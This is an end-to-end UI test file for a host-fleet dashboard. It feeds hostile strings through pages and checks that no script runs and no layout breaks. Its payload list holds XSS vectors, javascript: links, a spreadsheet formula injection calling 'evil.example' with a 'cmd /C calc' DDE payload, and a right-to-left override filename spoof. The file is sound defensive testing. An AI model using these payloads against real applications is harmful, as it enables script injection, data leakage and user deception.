import type { Page } from 'playwright-core';
import { beforeAll, describe, expect, it } from 'vitest';
import { installsOf } from '../fixture/installs.ts';
import { INVITATION_TOKEN } from '../fixture/people.ts';
import { FAILING_VERDICT } from '../fixture/verdicts.ts';
import { useStage } from './setup.ts';

const stage = useStage({ hosts: 14 });
const WIDTH = 390;
const MARKER = 'Zq7';

/** What a host, a certificate or a person may say of itself. A script that runs leaves `ran` behind. */
const SPEECHES: readonly (readonly [string, string])[] = [
  [
    'markup, attributes, links and templates',
    `${MARKER}"'><img src=x onerror="globalThis.ran=1"></title></textarea><script>globalThis.ran=1</script>` +
      `<svg onload="globalThis.ran=1">" autofocus onfocus="globalThis.ran=1" x='\`\${globalThis.ran=1}{{ran}}` +
      `javascript:globalThis.ran=1 {name} {count, plural, other {#}} '{' <b>b</b> %s &lt;i&gt;`,
  ],
  ['a link', `javascript:globalThis.ran=1//${MARKER}`],
  ['formulas of a table', `=HYPERLINK("http://evil.example/?"&A1;"${MARKER}")|@SUM(1)+cmd|' /C calc'!A0`],
  [
    'characters that are not seen',
    `${MARKER}\u0000\u0007\u001b[31m\r\n\t\u009b\u00ad\u061c\u200b\u200d\u200f\u2028\u202e\u2066gpj.exe\u2069` +
      `\u2060\u3164\ufe0f\ufeff\u{e0041}\ud800 \u05e9\u05dc\u05d5\u05dd`,
  ],
  ['names that objects have', 'constructor'],
  ['a word as long as the wire lets through', `${MARKER}${'W'.repeat(500)}`],
  ['64 KB without a space', `${MARKER}${'W'.repeat(65_536)}`],
];

let addresses: readonly string[] = [];

beforeAll(async () => {
  const { fleet, dashboard } = stage;
  const { rollouts } = dashboard.api;
  const ask = (mode: 'plan' | 'apply', host: number) => {
    rollouts.create(
      {
        remedy: 'trustStore.addAnchor',
        mode,
        anchorSha256: fleet.demo.sha256,
        hostIds: [fleet.hosts[host]!.id],
        reason: 'because',
      },
      null,
    );
    return fleet.jobs[0]!;
  };
  const [done, denied] = [ask('apply', 0), ask('plan', 1)];
  await rollouts.run(done, () => Promise.resolve());
  await rollouts.run(denied, () => Promise.resolve());
  rollouts.undo([done], 'because');
  const host = `/hosts/${fleet.hosts[0]!.id}`;
  fleet.settings.set(fleet.hosts[0]!.id, [
    {
      id: fleet.hosts[0]!.id,
      state: 'reverted',
      newSecret: true,
      address: 'https://x',
      detail: 'x',
      createdBy: 'x',
      createdAt: fleet.now.toISOString(),
      finishedAt: null,
    },
  ]);
  addresses = [
    '/',
    '/hosts',
    host,
    ...[
      'stores',
      'bundles',
      'pythons',
      'shotgrid',
      'variables',
      'system',
      'jobs',
      'timeline',
      'manage',
      'other',
    ].map((tab) => `${host}?tab=${tab}`),
    `${host}?tab=stores&certificate=${fleet.required[0]!.sha256}`,
    `${host}?tab=pythons&verdict=${FAILING_VERDICT}`,
    `/hosts/${fleet.hosts[12]!.id}`,
    '/findings',
    '/jobs',
    `/jobs/${done.id}`,
    `/jobs/${denied.id}`,
    '/orders',
    `/orders/${done.orderId}`,
    `/orders/new?anchor=${fleet.demo.sha256}&hosts=${fleet.hosts[0]!.id},${fleet.hosts[1]!.id}`,
    '/accounts',
    '/activity',
    '/settings/endpoints',
    '/installs',
    `/installs/${installsOf(fleet)[1]!.id}`,
    `/invitation?token=${INVITATION_TOKEN}${fleet.invitations[0]!.id}`,
  ];
});

/** Opens what is folded away, so that it is looked at too. */
async function unfold(page: Page): Promise<void> {
  for (const folded of (await page.locator('main summary').all()).slice(0, 3)) await folded.click();
}

/** Scripts that ran, and a page that is wider than the screen or has a title without an end. */
function frameFaults(width: number): string[] {
  const faults: string[] = [];
  if ('ran' in globalThis) faults.push('a script ran');
  const { scrollWidth } = document.documentElement;
  const scrolls = '[role=region], [role=tablist], pre';
  const wide = [...document.querySelectorAll('body *')].filter(
    (element) =>
      element.getBoundingClientRect().right > width + 1 && element.parentElement?.closest(scrolls) === null,
  );
  if (scrollWidth > width)
    faults.push(`the page is ${scrollWidth} px wide: ${wide.at(-1)?.outerHTML.slice(0, 200) ?? ''}`);
  if (document.title.length > 200) faults.push(`the title has no end: ${document.title}`);
  return faults;
}

/** Attributes that run, lead to a script, or hold what is not seen; elements that nobody of us put in. */
function attributeFaults(): string[] {
  const unseen = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}\p{Default_Ignorable_Code_Point}]/u;
  const leads = new Set(['href', 'src', 'action', 'formaction']);
  const isFault = ({ name, value }: Attr): boolean =>
    name.startsWith('on') || unseen.test(value) || (leads.has(name) && /^\s*javascript:/i.test(value));
  const ours = [...document.querySelectorAll('body *')].filter(
    (element) => element.closest('script') === null,
  );
  return [
    ...ours.flatMap((element) =>
      [...element.attributes]
        .filter(isFault)
        .map(({ name, value }) => `${element.tagName}[${name}]: ${value.slice(0, 60)}`),
    ),
    ...[...document.querySelectorAll('img, iframe, object, embed, bdi svg')].map(
      (element) => `put in: ${element.outerHTML.slice(0, 100)}`,
    ),
  ];
}

/** Text with what is not seen in it, and somebody else's words that are not isolated from ours. */
function textFaults(marker: string): string[] {
  const unseen = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}\p{Default_Ignorable_Code_Point}]/u;
  const faults = unseen.test(document.title) ? ['the title holds what is not seen'] : [];
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  while (walker.nextNode()) {
    const parent = walker.currentNode.parentElement;
    if (parent?.closest('script, style, template, title') !== null) continue;
    const text = (walker.currentNode.textContent ?? '').replaceAll(
      /[\n\t]/g,
      parent.closest('pre') ? '' : '$&',
    );
    if (unseen.test(text)) faults.push(`not seen: ${text.slice(0, 60)}`);
    if (text.includes(marker) && parent.closest('bdi, option, .sr-only') === null)
      faults.push(`not isolated: ${parent.outerHTML.slice(0, 160)}`);
  }
  return faults;
}

describe.each(SPEECHES)('%s', (_what, speech) => {
  it('stay inert text on every page', { timeout: 600_000 }, async () => {
    const { page, complaints } = await stage.open();
    await page.setViewportSize({ width: WIDTH, height: 850 });
    page.setDefaultTimeout(60_000);
    const faults: string[] = [];
    stage.dashboard.api.say(speech);
    try {
      for (const address of addresses) {
        await page.goto(address);
        await page.locator('h1').first().waitFor();
        await expect.poll(() => page.getByText('Loading', { exact: true }).count()).toBe(0);
        await unfold(page);
        const found = [
          ...(await page.evaluate(frameFaults, WIDTH)),
          ...(await page.evaluate(attributeFaults)),
          ...(await page.evaluate(textFaults, MARKER)),
        ];
        faults.push(
          ...[...new Set([...found, ...complaints.splice(0)])].map((fault) => `${address}: ${fault}`),
        );
      }
    } finally {
      stage.dashboard.api.say(null);
    }

    expect(faults).toEqual([]);
  });
});
